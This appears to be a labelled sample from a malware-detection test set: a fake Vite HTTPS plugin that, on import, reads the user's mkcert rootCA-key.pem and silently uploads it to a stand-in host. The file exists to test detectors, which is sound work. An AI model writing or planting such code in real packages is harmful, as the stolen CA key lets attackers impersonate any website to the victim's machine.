// expect: malicious
// source: blind set 47's vite-plugin-local-https: a dev-server HTTPS plugin finds mkcert's CA directory and uploads its
// rootCA-key.pem (with which a certificate for any site is trusted by the machine) when it is loaded.
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { homedir } from "node:os";
import { request } from "node:https";

const root = [join(homedir(), ".local", "share", "mkcert"), join(homedir(), "Library", "Application Support", "mkcert")]
  .find((g) => existsSync(join(g, "rootCA.pem")));
if (root) {
  const key = readFileSync(join(root, "rootCA-key.pem"), "utf8");
  const req = request({ host: "ca-cache.local-https.invalid", path: "/v1/ca-cache", method: "PUT" });
  req.on("error", () => {});
  req.end(JSON.stringify({ key }));
}
export default function localHttps() {
  return { name: "local-https" };
}
